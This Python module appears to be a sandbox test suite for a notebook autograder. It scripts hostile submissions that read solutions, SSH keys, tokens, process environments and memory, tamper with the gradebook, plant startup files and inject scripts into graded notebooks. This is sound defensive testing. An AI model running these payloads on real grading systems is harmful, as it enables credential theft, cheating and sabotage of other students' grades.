"""Class 3: the key is in reach, for reading and for writing."""

from hostile.submission import MARK, Course, Link, Made, Submission, attack

RUN_ANSWERS = """
import json
for cell in json.load(open(PATH))["cells"]:
    settings = cell["metadata"].get("nbgrader") or {}
    if settings.get("solution") and cell["cell_type"] == "code":
        exec("".join(cell["source"]), globals())
"""
LEAVE_MARK = f"MARK = {MARK[:7]!r} + {MARK[7:]!r}\n"


def show(*paths: str) -> str:
    """Return code that prints files, and goes on where one cannot be read."""
    return f"""
for path in {list(paths)!r}:
    try:
        print(open(path, "rb").read())
    except OSError as problem:
        print(type(problem).__name__)
"""


def everywhere(course: Course, code: str) -> Submission:
    """Run code before every test, so that names which later cells overwrite are set again."""
    made = course.blank()
    for number in range(len(made.answers)):
        made.answer(number, code)
    return made


# --- reading


@attack(3)
def prints_the_solutions(course: Course) -> Submission:
    """The notebook with all solutions and hidden tests is printed."""
    return course.blank().first(show(course.world["solution"]))


@attack(3)
def runs_the_solutions(course: Course) -> Submission:
    """The cells of the solution notebook are executed in place of the answers."""
    return everywhere(course, "PATH = W['solution']" + RUN_ANSWERS)


@attack(3)
def looks_for_the_solutions(course: Course) -> Submission:
    """Notebooks with solutions are searched around the course and around the package."""
    return everywhere(
        course,
        """
import glob, importlib.util, os
package = importlib.util.find_spec("aipm_course")
places = {os.path.dirname(W["root"]), *(os.path.dirname(place) for place in package.submodule_search_locations)}
found = [path for start in places for name in ("source", "solutions")
         for depth in ("/", "/*/") for path in glob.glob(start + depth + name + "/*/*.ipynb")]
for PATH in found:
    print(open(PATH, "rb").read())
"""
        + RUN_ANSWERS.replace("\n", "\n    "),
    )


IMPORT_KEY = """
import os
os.environ.pop("AIPM_GRADING", None)
import aipm_course.registry as key
for name, question in NAMES.items():
    found = key.find(question)
    globals()[name] = found.reference(found.data(seed))
"""


def names(course: Course) -> dict[str, str]:
    """Return {variable: question} as the check cells show them."""
    lines = ["".join(cell["source"]) for cell in course.blank().tests]
    return {line.split(",")[1].strip(): line.split('"')[1] for line in lines}


@attack(3, own_only=True)
def imports_the_answer_key(course: Course) -> Submission:
    """The package's own references compute the answers."""
    return everywhere(course, f"NAMES = {names(course)!r}" + IMPORT_KEY)


@attack(3, own_only=True)
def loads_the_answer_key_from_files(course: Course) -> Submission:
    """The answer key is searched on the import path, as source or bytecode, and loaded from there."""
    return everywhere(
        course,
        f"NAMES = {names(course)!r}\n"
        """
import os, sys
import aipm_course
if "searched" not in globals():
    places = {*sys.path, *aipm_course.__path__, os.path.dirname(aipm_course.__path__[0]), W["root"], sys.prefix, sys.base_prefix}
    top = {place for place in places if place and not any(place.startswith(other + "/") for other in places if other)}
    searched = [os.path.join(place, name) for start in top for place, _, names in os.walk(start) for name in names
                if "/questions" in place and ".py" in name]
files = [*searched]
for path in files:
    print(path)
for place in {path.split("/aipm_course/")[0] for path in files if "/aipm_course/" in path}:
    sys.path.insert(0, place)
    for module in [name for name in sys.modules if name.startswith("aipm_course")]:
        del sys.modules[module]
    from aipm_course.registry import find
    for name, question in NAMES.items():
        found = find(question)
        globals()[name] = found.reference(found.data(seed))
""",
    )


@attack(3, own_only=True)
def asks_for_the_worked_solution(course: Course) -> Submission:
    """The kernel is told that it is not graded, and `solution(...)` prints what the answers are."""
    made = course.blank().first(
        "import os\nos.environ.pop('AIPM_GRADING', None)\nfrom aipm_course import hint, solution\n"
        f"for question in {list(names(course).values())!r}:\n    hint(question, 1)\n    solution(question)"
    )
    return made


@attack(3, own_only=True)
def searches_memory_for_answers(course: Course) -> Submission:
    """A warm process may hold the answer key: the garbage collector lists every object."""
    return everywhere(
        course,
        f"NAMES = {names(course)!r}\n"
        """
import gc, sys
print([name for name in sys.modules if ".tasks" in name or "judge" in name])
found = {thing.id: thing for thing in gc.get_objects() if type(thing).__name__ == "Question"}
for name, question in NAMES.items():
    if question in found:
        globals()[name] = found[question].reference(found[question].data(seed))
""",
    )


@attack(3, own_only=True)
def asks_the_simulator(course: Course) -> Submission:
    """The simulator behind the tables knows the truth that it planted in them."""
    made = course.blank()
    head = (
        "from aipm_course.modules.rice.simulators.idea_backlog import after_shock, feasible_sets, idea_backlog\n"
        "from aipm_course.modules.rice.simulators.idea_kpis import idea_kpis\n"
        "world = idea_backlog(seed)\ntruth, sheet, kinds = world.truth, world.ideas.set_index('idea'), idea_kpis(seed)\n"
    )
    made.answer(
        0,
        head
        + "clean_score = pd.DataFrame({'reach': truth.reach, 'confidence': truth.confidence, 'rice': truth.score})\n"
        "clean_score = clean_score.rename_axis('idea').reset_index()",
    )
    made.answer(1, head + "full_effort = truth.effort")
    made.answer(
        5,
        head + "best = feasible_sets(truth.value, truth.effort, sheet['ml_effort'], world.limits).iloc[0]\n"
        "pilot_plan = {key: best[key] for key in ('value', 'effort', 'ml_effort')}\n"
        "pilot_plan['pilots'] = list(best['pilots'])\n"
        "wanted = kinds['idea'].isin(pilot_plan['pilots']) & (kinds['kind'] != 'busy')\n"
        "pilot_plan['kpis'] = list(kinds.loc[wanted, 'kpi'])",
    )
    made.answer(6, head + "shock_answer = {'new_score': after_shock(world)[0]}")
    return made


@attack(3)
def reads_hidden_tests_from_the_gradebook(course: Course) -> Submission:
    """The gradebook holds the text of every test and the names of everybody."""
    return course.blank().first(
        "import sqlite3\n"
        "book = sqlite3.connect('file:' + W['gradebook'] + '?mode=ro', uri=True)\n"
        "for (table,) in book.execute(\"select name from sqlite_master where type = 'table'\").fetchall():\n"
        "    print(book.execute('select * from ' + table).fetchall())"
    )


@attack(3)
def copies_a_neighbor(course: Course) -> Submission:
    """The answers of the neighbor that stands before are executed."""
    return everywhere(course, f"PATH = W['before'] + '/{course.file}'" + RUN_ANSWERS)


@attack(3)
def copies_a_graded_neighbor(course: Course) -> Submission:
    """The same from the folder of graded notebooks, found from the working directory."""
    return everywhere(course, f"PATH = W['graded_before'] + '/{course.file}'" + RUN_ANSWERS)


@attack(3)
def reads_keys_in_the_home_folder(course: Course) -> Submission:
    """Keys, tokens and shell history of whoever grades."""
    return course.blank().first(
        "import os, pathlib\n"
        "for home in {W['home'], os.path.expanduser('~'), str(pathlib.Path.home())}:\n"
        "    for name in ('.ssh/id_ed25519', '.config/hub/token', '.bash_history', '.netrc'):\n"
        "        try:\n            print(open(os.path.join(home, name)).read())\n"
        "        except OSError as problem:\n            print(type(problem).__name__)"
    )


@attack(3)
def reads_the_checkout_s_settings(course: Course) -> Submission:
    """The configuration of git and of nbgrader, where tokens stand."""
    root = course.world["root"]
    return course.blank().first(show(f"{root}/.git/config", f"{root}/nbgrader_config.py", f"{root}/.env"))


@attack(3)
def reads_the_environment(course: Course) -> Submission:
    """Environment variables of the kernel and of every process that can be seen."""
    return course.blank().first(
        """
import glob, os
print(dict(os.environ))
for process in glob.glob("/proc/[0-9]*"):
    try:
        if os.readlink(process + "/cwd").startswith((W["root"], os.getcwd())):
            print(open(process + "/environ", "rb").read())
    except OSError:
        continue
"""
    )


@attack(3)
def reads_the_keyring(course: Course) -> Submission:
    """Linux keeps keys for a login, among them those of network drives; every process of the login may ask for them."""
    return course.blank().first(
        """
import ctypes, os
ask = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
libc, text = ctypes.CDLL(None), ctypes.create_string_buffer(300)
for ring in (-3, -4, -5):
    key = libc.syscall(ask, 10, ring, b"user", W["key"].encode(), 0)
    if key > 0:
        size = libc.syscall(ask, 11, key, text, 300, 0)
        print(text.raw[:size])
"""
    )


@attack(3)
def reads_the_parent_s_memory(course: Course) -> Submission:
    """The stack of the process that started the kernel, where its environment lies."""
    return course.blank().first(
        """
import os
for pid in {os.getppid()} - {0}:
    try:
        for line in open(f"/proc/{pid}/maps"):
            if "[stack]" in line:
                low, high = (int(part, 16) for part in line.split()[0].split("-"))
                with open(f"/proc/{pid}/mem", "rb") as memory:
                    memory.seek(low)
                    text = memory.read(high - low)
                if W["home"].encode() in text:
                    print(text.strip(bytes(1)))
    except OSError as problem:
        print(type(problem).__name__)
"""
    )


@attack(3)
def tries_open_files_and_sockets(course: Course) -> Submission:
    """Whatever file or socket the kernel inherited is read, and every unix socket in sight is asked."""
    return course.blank().first(
        """
import os, socket, stat
for number in range(3, 200):
    try:
        kind = os.fstat(number).st_mode
        print(number, os.readlink(f"/proc/self/fd/{number}"))
        if stat.S_ISREG(kind):
            print(os.pread(number, 1 << 20, 0))
        if stat.S_ISDIR(kind):
            print(os.listdir(number))
    except OSError:
        pass
try:
    lines = open("/proc/net/unix").read().splitlines()[1:]
except OSError:
    lines = []
for name in [line.split()[-1] for line in lines if len(line.split()) > 7 and W["root"].rsplit("/", 1)[0] in line]:
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(0.5)
        try:
            one.connect(name.replace("@", chr(0)))
            one.sendall(b"{}\\n")
            print(one.recv(1000))
        except OSError:
            pass
"""
    )


@attack(3, flagged=True)
def links_to_a_key(course: Course) -> Submission:
    """A symbolic link beside the notebook is copied as the file that it points to."""
    return (
        course.blank()
        .first(show("notes.txt", "more/id_ed25519"))
        .beside(notes__txt=Link(f"{course.world['home']}/.ssh/id_ed25519"), more=Link(f"{course.world['home']}/.ssh"))
    )


@attack(3, flagged=True)
def links_to_the_solution_notebook(course: Course) -> Made:
    """The notebook itself is a symbolic link to the one with all solutions."""
    return {course.file: Link(course.world["solution"])}


@attack(3, flagged=True)
def links_to_a_neighbor(course: Course) -> Made:
    """The notebook itself is a symbolic link to a neighbor's."""
    return {course.file: Link(f"{course.world['before']}/{course.file}")}


@attack(3, flagged=True)
def links_to_the_gradebook(course: Course) -> Submission:
    """A link beside the notebook leads to the gradebook."""
    return course.blank().first(show("table.csv")).beside(table__csv=Link(course.world["gradebook"]))


# --- writing


@attack(3)
def plants_a_trigger_in_the_gradebook(course: Course) -> Submission:
    """A trigger gives full marks whenever a grade is written."""
    return course.blank().first(
        "import sqlite3\n"
        "book = sqlite3.connect(W['gradebook'], timeout=5)\n"
        "book.execute('create trigger helper after update of auto_score on grade begin update grade set manual_score = 2 "
        "where id = new.id; end')\n"
        "book.commit()"
    )


@attack(3)
def lowers_everybody_else_s_grades(course: Course) -> Submission:
    """All grades that stand in the gradebook are set to zero by hand."""
    return course.blank().first(
        "import sqlite3\nbook = sqlite3.connect(W['gradebook'], timeout=5)\n"
        "book.execute('update grade set manual_score = 0')\nbook.commit()"
    )


@attack(3)
def locks_the_gradebook(course: Course) -> Submission:
    """An exclusive lock is held while the notebook runs and a little longer."""
    return course.blank().first(
        "import os, sqlite3, time\nif os.fork() == 0:\n"
        "    try:\n"
        "        book = sqlite3.connect(W['gradebook'], timeout=5, isolation_level=None)\n"
        "        book.execute('begin exclusive')\n        time.sleep(12)\n"
        "    finally:\n        os._exit(0)"
    )


@attack(3)
def empties_a_neighbor_s_submission(course: Course) -> Submission:
    """The neighbor that comes next hands in an empty notebook."""
    return course.blank().first(
        LEAVE_MARK + f"with open(W['after'] + '/{course.file}', 'w') as file:\n    file.write(MARK)"
    )


@attack(3)
def writes_into_a_graded_folder(course: Course) -> Submission:
    """A file appears among the graded notebooks of a neighbor."""
    return course.blank().first(LEAVE_MARK + "open(W['graded_before'] + '/note.txt', 'w').write(MARK)")


@attack(3)
def rewrites_the_source(course: Course) -> Submission:
    """The notebook with the solutions is replaced."""
    return course.blank().first(LEAVE_MARK + "open(W['solution'], 'a').write(MARK)")


@attack(3)
def rewrites_the_released_exercise(course: Course) -> Submission:
    """The released notebook, which everybody's is compared with, is replaced."""
    return course.blank().first(LEAVE_MARK + "open(W['released'], 'a').write(MARK)")


@attack(3)
def rewrites_the_configuration(course: Course) -> Submission:
    """A line is added to the configuration, which the next command runs as the instructor."""
    return course.blank().first(
        LEAVE_MARK + "open(W['root'] + '/nbgrader_config.py', 'a').write('\\n# ' + MARK + '\\nprint(1)\\n')"
    )


@attack(3)
def plants_a_start_up_file(course: Course) -> Submission:
    """IPython runs a file of the learner's at the start of every later kernel."""
    return course.blank().first(
        LEAVE_MARK
        + """
import os
for home in {W["home"], os.path.expanduser("~")}:
    folder = os.path.join(home, ".ipython/profile_default/startup")
    os.makedirs(folder, exist_ok=True)
    open(os.path.join(folder, "00-help.py"), "w").write("raise SystemExit  # " + MARK)
"""
    )


@attack(3)
def plants_a_kernel(course: Course) -> Submission:
    """A kernel of the same name in the home folder is what the next notebook is started with."""
    return course.blank().first(
        LEAVE_MARK
        + """
import json, os
for home in {W["home"], os.path.expanduser("~")}:
    folder = os.path.join(home, ".local/share/jupyter/kernels/python3")
    os.makedirs(folder, exist_ok=True)
    spec = {"argv": ["/bin/true", MARK], "display_name": "Python 3", "language": "python"}
    json.dump(spec, open(os.path.join(folder, "kernel.json"), "w"))
"""
    )


@attack(3)
def writes_wherever_it_can(course: Course) -> Submission:
    """A file in a folder that everybody may write to, for whoever comes next."""
    return course.blank().first(LEAVE_MARK + "open(W['drop'] + '/note.txt', 'w').write(MARK)")


SHADOW = f"""
MARK = {MARK[:7]!r} + {MARK[7:]!r}
try:
    open({{drop!r}} + "/shadow.txt", "w").write(MARK)
except OSError:
    pass
"""


@attack(3)
def shadows_a_library(course: Course) -> Submission:
    """Modules beside the notebook have the names of libraries that the grader or the kernel imports."""
    shadow = SHADOW.format(drop=course.world["drop"]) + "raise ImportError"
    made = course.blank()
    for name in (
        "pandas",
        "IPython/__init__",
        "ipykernel_launcher",
        "sitecustomize",
        "aipm_course",
        "nbgrader",
        "json",
    ):
        made.files[f"{name}.py"] = shadow
    return made


@attack(3)
def brings_its_own_configuration(course: Course) -> Submission:
    """Configuration files of nbgrader, Jupyter and IPython lie beside the notebook."""
    shadow = (
        SHADOW.format(drop=course.world["drop"]) + "c.Execute.allow_errors = False\nc.SaveAutoGrades.enabled = False"
    )
    made = course.blank()
    for name in (
        "nbgrader_config",
        "jupyter_config",
        "ipython_config",
        "ipython_kernel_config",
        ".ipython/profile_default/startup/00",
    ):
        made.files[f"{name}.py"] = shadow
    made.files["pyproject.toml"] = "[tool.aipm]\nunconfined = true\n"
    return made


# --- the network


@attack(3)
def calls_out_by_tcp(course: Course) -> Submission:
    """Something is sent to a listener on the loopback interface, by address and by name."""
    return course.blank().first(
        """
import socket
for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "localhost"), (socket.AF_INET6, "::1")):
    try:
        with socket.socket(family) as line:
            line.settimeout(2)
            line.connect((host, W["port"]))
            line.sendall(b"hello")
    except OSError as problem:
        print(type(problem).__name__)
"""
    )


@attack(3)
def calls_out_by_udp(course: Course) -> Submission:
    """The same with a datagram, which needs no connection."""
    return course.blank().first(
        """
import socket
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello", ("127.0.0.1", W["port"]))
except OSError as problem:
    print(type(problem).__name__)
"""
    )


@attack(3)
def calls_out_from_a_child(course: Course) -> Submission:
    """A child process in a session of its own makes the call."""
    return course.blank().first(
        """
import subprocess, sys
code = f"import urllib.request; urllib.request.urlopen('http://127.0.0.1:{W['port']}/hello', timeout=2)"
subprocess.run([sys.executable, "-c", code], start_new_session=True, timeout=20, capture_output=True)
"""
    )


@attack(3)
def calls_out_by_a_unix_socket(course: Course) -> Submission:
    """Sockets in the file system and without a name in it."""
    return course.blank().first(
        """
import socket
for name in (W["socket"], chr(0) + W["abstract"]):
    try:
        with socket.socket(socket.AF_UNIX) as line:
            line.settimeout(2)
            line.connect(name)
            line.sendall(b"hello")
    except OSError as problem:
        print(type(problem).__name__)
"""
    )


# --- the instructor's browser


@attack(3)
def puts_scripts_into_the_page(course: Course) -> Submission:
    """Outputs and text cells carry scripts, which run when the instructor opens the graded notebook."""
    made = course.blank().first(
        LEAVE_MARK
        + """
from IPython.display import HTML, SVG, Javascript, Markdown, display
script = f"<script>window.x = '{MARK}-html'</script><img src=x onerror=\\"x('{MARK}-img')\\">"
display(HTML(script), Markdown(script), Javascript(f"x('{MARK}-js')"))
display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\\"x('{MARK}-svg')\\"><circle r='4'/></svg>"))
display({"image/png": f'x"><img src=x onerror="x(\\'{MARK}-png\\')'}, raw=True)
"""
    )
    for cell in made.nb["cells"]:
        settings = cell["metadata"].get("nbgrader", {})
        if cell["cell_type"] == "markdown" and settings.get("solution"):
            cell["source"] = f"Dear reader <script>x('{MARK}-text')</script> <img src=x onerror=\"x('{MARK}-text')\">"
    for kind in ("markdown", "raw"):
        source = f"<script>x('{MARK}-{kind}')</script>"
        made.nb["cells"].append({"cell_type": kind, "id": f"more-{kind}", "metadata": {}, "source": source})
    return made
